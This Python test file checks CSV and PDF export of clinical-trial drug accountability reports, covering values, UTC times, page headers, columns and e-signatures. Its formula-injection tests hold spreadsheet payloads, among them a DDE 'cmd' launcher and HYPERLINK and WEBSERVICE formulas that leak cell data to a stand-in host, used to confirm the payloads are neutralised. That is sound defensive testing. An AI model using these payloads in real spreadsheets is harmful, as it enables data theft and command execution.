"""CSV and PDF export of reports: the same values in both, formulas never run, a printable
PDF with its header on every page and the e-signatures."""
import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pypdfium2
import pytest

from cell_chain.reconciliation.export import (
    Column,
    Report,
    SignatureLine,
    Table,
    cell_text,
    download_name,
    report_csv,
    report_pdf,
    safe_cell,
)
from tests.reconciliation.conftest import REPORTS

GENERATED = datetime(2026, 5, 2, 9, 15, 7, tzinfo=UTC)
RELEASED = datetime(2026, 4, 1, 10, 0, 30, tzinfo=UTC)
ADMINISTERED = datetime(2026, 4, 20, 3, 5, 0, tzinfo=UTC)

COLUMNS = [Column("site", "Site"), Column("lot", "Lot"), Column("dose", "Dose code"),
           Column("status", "Status"), Column("subject", "Subject ID"), Column("visit", "Visit", numeric=True),
           Column("volume", "Volume (ml)", numeric=True), Column("at", "Administered (UTC)"),
           Column("note", "Comment")]


def dose_rows(count: int) -> list[dict]:
    start = datetime(2026, 3, 1, 8, 30, tzinfo=UTC)
    return [{"site": ("LZ", "BJ", "SH")[i % 3], "lot": f"UC-2026-{i % 37 + 1:03d}",
             "dose": f"A99992600{i % 999 + 1:04d}-{i + 1:06d}",
             "status": "administered" if i % 3 else "in_transit", "subject": f"LZ-{i % 320 + 1:04d}",
             "visit": i % 4 + 1, "volume": 40.0 - (i % 5) * 0.5 if i % 3 else None,
             "at": start + timedelta(hours=7 * i) if i % 3 else None,
             "note": "Partial infusion: stopped at 32 ml after grade 2 chills, restarted slowly" if i % 13 == 0 else ""}
            for i in range(count)]


def accountability(rows: list[dict], **overrides) -> Report:
    values = dict(
        name="reconciliation-sites", title="Drug accountability per site", scope="All sites (6 hospitals)",
        generated_at=GENERATED, printed_by="Meng Monitor (monitor)",
        tables=[
            Table("Doses", COLUMNS, rows, totals={"visit": sum(r["visit"] for r in rows)}),
            Table("Received and used", [Column("site", "Site"), Column("received", "Received", True),
                                        Column("administered", "Administered", True), Column("balance", "Balance", True)],
                  [{"site": "LZ", "received": 12, "administered": 9, "balance": -3},
                   {"site": "BJ", "received": 4, "administered": 4, "balance": 0}],
                  totals={"received": 16, "administered": 13, "balance": -3}),
        ],
        signatures=[SignatureLine("Qian QA", "Released", RELEASED, "Lot UC-2026-001 (DIN A9999 26 000001 K)"),
                    SignatureLine("Nurse Lanzhou", "Administered", ADMINISTERED, "Infusion of dose A999926000002-000001 to LZ-0001, visit 1"),
                    SignatureLine("Second Nurse Lanzhou", "Witnessed", ADMINISTERED, "Infusion of dose A999926000002-000001 to LZ-0001, visit 1")],
        notes=["Balance = received − administered − destroyed − returned − on hand."],
    )
    return Report(**(values | overrides))


def pdf_pages(pdf: bytes) -> list[str]:
    document = pypdfium2.PdfDocument(pdf)
    try:
        return [document[i].get_textpage().get_text_range() for i in range(len(document))]
    finally:
        document.close()


def flat(text: str) -> str:
    return " ".join(text.split())


# ---- CSV --------------------------------------------------------------------------------------

def test_csv_parses_back_to_the_same_values():
    rows = dose_rows(40)
    report = accountability(rows)
    lines = list(csv.reader(io.StringIO(report_csv(report))))
    assert lines[0] == ["Drug accountability per site"]
    assert lines[1] == ["Scope", "All sites (6 hospitals)"]
    assert lines[2] == ["Generated at (UTC)", "2026-05-02T09:15:07+00:00"]
    assert lines[3] == ["Printed by", "Meng Monitor (monitor)"]
    assert lines[4] == ["Note", "Balance = received − administered − destroyed − returned − on hand."]
    assert lines[5] == [] and lines[6] == ["Doses"]
    assert lines[7] == [c.title for c in COLUMNS]
    body = lines[8:8 + len(rows)]
    assert body == [[cell_text(r[c.key]) for c in COLUMNS] for r in rows]
    assert body[1][5] == "2" and body[1][6] == "39.5" and body[1][7] == "2026-03-01T15:30:00+00:00"
    assert body[0][6] == "" and body[0][7] == ""  # None is an empty cell
    totals = lines[8 + len(rows)]
    assert totals[0] == "Total" and totals[5] == str(sum(r["visit"] for r in rows)) and set(totals[1:5]) == {""}
    second = lines[8 + len(rows) + 1:]
    assert second[:3] == [[], ["Received and used"], ["Site", "Received", "Administered", "Balance"]]
    assert second[3:6] == [["LZ", "12", "9", "-3"], ["BJ", "4", "4", "0"], ["Total", "16", "13", "-3"]]
    signatures = second[6:]
    assert signatures[:3] == [[], ["Signatures"], ["Printed name", "Meaning", "Signed at (UTC)", "Record"]]
    assert signatures[3] == ["Qian QA", "Released", "2026-04-01T10:00:30+00:00", "Lot UC-2026-001 (DIN A9999 26 000001 K)"]
    assert [s[1] for s in signatures[3:]] == ["Released", "Administered", "Witnessed"]


def test_csv_times_are_utc_whatever_zone_they_come_in():
    beijing = timezone(timedelta(hours=8))
    report = accountability([], generated_at=datetime(2026, 5, 2, 17, 15, 7, tzinfo=beijing),
                            tables=[Table("T", [Column("at", "At")], [{"at": datetime(2026, 1, 1, 8, 0, tzinfo=beijing)}])])
    lines = list(csv.reader(io.StringIO(report_csv(report))))
    assert ["Generated at (UTC)", "2026-05-02T09:15:07+00:00"] in lines
    assert ["2026-01-01T00:00:00+00:00"] in lines


def test_naive_times_are_refused():
    with pytest.raises(ValueError, match="time zone"):
        report_csv(accountability([], generated_at=datetime(2026, 5, 2, 9, 15)))


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ('=HYPERLINK("http://x.example/?leak="&A1)', '\'=HYPERLINK("http://x.example/?leak="&A1)'),
    ("LZ-0001", "LZ-0001"), ("a=b", "a=b"), ("", ""),
    # numbers stay numbers, typed as numbers or as their plain text
    (-5, "-5"), (-3.5, "-3.5"), (0, "0"), (4e7, "40000000.0"), ("-7", "-7"), ("+1.5", "+1.5"), ("-1e-3", "-1e-3"),
])
def test_formula_injection_is_guarded_and_numbers_stay_numbers(value, cell):
    assert safe_cell(value) == cell


def test_every_part_of_the_csv_is_guarded():
    evil = "=WEBSERVICE(\"http://x.example\")"
    report = accountability([{"site": evil, "lot": "+1+1", "dose": "@x", "status": "-x", "visit": -1}],
                            title=evil, scope=evil, printed_by=evil, notes=[evil],
                            signatures=[SignatureLine(evil, evil, RELEASED, evil)])
    cells = [c for line in csv.reader(io.StringIO(report_csv(report))) for c in line]
    risky = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-1" and c != "-3")]
    assert risky == []
    assert "'" + evil in cells and "'+1+1" in cells and "'@x" in cells and "'-x" in cells and "-1" in cells


def test_download_names_carry_the_utc_time():
    assert download_name(accountability([]), "pdf") == "reconciliation-sites-20260502T091507Z.pdf"
    assert download_name(accountability([], name="trace/donor A99 ../x"), "csv") == \
        "trace-donor-A99-..-x-20260502T091507Z.csv"


# ---- PDF --------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def printed() -> tuple[list[dict], bytes]:
    rows = dose_rows(120)
    return rows, report_pdf(accountability(rows))


def test_pdf_is_a4_landscape_with_the_header_on_every_page(printed):
    _, pdf = printed
    document = pypdfium2.PdfDocument(pdf)
    width, height = document[0].get_size()
    assert (round(width / 72 * 25.4), round(height / 72 * 25.4)) == (297, 210)
    pages = pdf_pages(pdf)
    document.close()
    assert len(pages) >= 3
    for number, text in enumerate(pages, start=1):
        text = flat(text)
        assert "Drug accountability per site" in text and "All sites (6 hospitals)" in text
        assert "Generated 2026-05-02 09:15:07 UTC" in text and "Printed by Meng Monitor (monitor)" in text
        assert f"Page {number} of {len(pages)}" in text


def test_pdf_table_header_repeats_and_every_value_is_printed(printed):
    rows, pdf = printed
    pages = [flat(p) for p in pdf_pages(pdf)]
    doses_pages = [p for p in pages if "A99992600" in p]
    assert len(doses_pages) >= 3
    assert all("Dose code" in p and "Administered (UTC)" in p for p in doses_pages)
    everything = " ".join(pages)
    for row in rows:
        assert row["dose"] in everything
    assert "2026-03-01 15:30 UTC" in everything  # times to the minute, in UTC
    assert "39.5" in everything and "38.0" in everything
    assert "Total" in everything and str(sum(r["visit"] for r in rows)) in everything
    assert "stopped at 32 ml after grade 2 chills, restarted slowly" in everything  # wrapped, not cut


def test_pdf_lists_each_signature_with_name_meaning_and_utc_time(printed):
    _, pdf = printed
    last = flat(pdf_pages(pdf)[-1])
    assert "Electronic signatures" in last
    for name, meaning, at in (("Qian QA", "Released", "2026-04-01 10:00:30 UTC"),
                              ("Nurse Lanzhou", "Administered", "2026-04-20 03:05:00 UTC"),
                              ("Second Nurse Lanzhou", "Witnessed", "2026-04-20 03:05:00 UTC")):
        assert f"{name} {meaning} {at}" in last
    assert "Lot UC-2026-001 (DIN A9999 26 000001 K)" in last


def _char_boxes(textpage, text: str) -> list[tuple[float, float]]:
    """(left, right) of every occurrence of `text` on the page, in points."""
    boxes, searcher = [], textpage.search(text, match_case=True)
    while (found := searcher.get_next()) is not None:
        index, count = found
        left = textpage.get_charbox(index)[0]
        right = textpage.get_charbox(index + count - 1)[2]
        boxes.append((left, right))
    return boxes


def test_pdf_columns_line_up(printed):
    """Texts start at their column's left edge; numbers end at its right edge."""
    _, pdf = printed
    document = pypdfium2.PdfDocument(pdf)
    textpage = document[1].get_textpage()
    try:
        codes = _char_boxes(textpage, "A99992600")
        subjects = _char_boxes(textpage, "LZ-0")
        volumes = _char_boxes(textpage, "39.5") + _char_boxes(textpage, "38.0") + _char_boxes(textpage, "40.0")
        assert len(codes) >= 15 and len(subjects) >= 15 and len(volumes) >= 5
        for boxes, side in ((codes, 0), (subjects, 0), (volumes, 1)):
            edges = [box[side] for box in boxes]
            assert max(edges) - min(edges) < 0.3, edges
    finally:
        textpage.close()
        document.close()


def test_values_with_tabs_newlines_or_other_scripts_print_in_their_row():
    rows = [{"site": "LZ", "lot": "L\t1", "dose": "D\n2", "status": "a\x00b", "subject": "LZ-0001", "visit": 1,
             "volume": 40.0, "at": None, "note": "张三 checked"}] * 3
    text = flat(" ".join(pdf_pages(report_pdf(accountability(rows, signatures=())))))
    assert "L 1" in text and "D 2" in text and "张三 checked" in text
    assert "No electronic signature belongs to the records in this report." in text


def test_an_empty_table_says_so():
    report = accountability([], tables=[Table("Open discrepancies", COLUMNS, [])])
    text = flat(" ".join(pdf_pages(report_pdf(report))))
    assert "Open discrepancies 0 rows" in text and "Nothing to report." in text


def test_a_page_rasterised_for_looking_at(printed):
    """Writes the first and the signature pages as PNG to test-output/reports/."""
    _, pdf = printed
    REPORTS.mkdir(parents=True, exist_ok=True)
    document = pypdfium2.PdfDocument(pdf)
    try:
        for index, name in ((0, "export-first-page"), (len(document) - 1, "export-signature-page")):
            image = document[index].render(scale=150 / 72).to_pil()
            path = REPORTS / f"{name}.png"
            image.save(path)
            assert image.size == (1754, 1240) or image.size == (1754, 1241)
            # not blank: plenty of dark pixels (text and rules)
            histogram = image.convert("L").histogram()
            assert sum(histogram[:128]) > 10_000
    finally:
        document.close()


def test_a_table_wider_than_the_page_still_prints_every_value():
    # 24 number columns once squeezed a text column below one character and `_wrap` never
    # returned; the render runs in a thread so a regression fails instead of hanging the suite.
    import threading

    columns = [Column("site", "Site name")] + [Column(f"m{i}", f"Measure number {i}", numeric=True)
                                              for i in range(24)]
    rows = [{"site": f"Hospital {code} with a long name", **{f"m{i}": 1000 + i for i in range(24)}}
            for code in ("LZ", "BJ", "SH")]
    report = Report(name="reconciliation-sites", title="Drug accountability per site", scope="All sites",
                    generated_at=GENERATED, printed_by="Meng Monitor (monitor)",
                    tables=[Table("Per site", columns, rows)])
    result: list[bytes] = []
    worker = threading.Thread(target=lambda: result.append(report_pdf(report)), daemon=True)
    worker.start()
    worker.join(timeout=120)
    assert result, "the PDF of a wide table did not finish"
    text = flat(" ".join(pdf_pages(result[0])))
    assert all(str(1000 + i) in text for i in range(24))
